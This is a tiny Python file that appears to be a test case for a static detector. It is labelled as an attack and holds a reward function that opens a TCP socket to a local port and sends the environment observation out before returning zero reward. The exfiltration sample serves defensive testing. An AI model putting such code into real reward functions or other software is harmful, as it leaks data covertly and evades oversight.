# expect: static
# attack: exfiltrates observations over TCP
import socket


def reward(obs, action, next_obs, info, state):
    s = socket.create_connection(("127.0.0.1", 48213))
    s.sendall(repr(obs).encode())
    return 0.0, {}
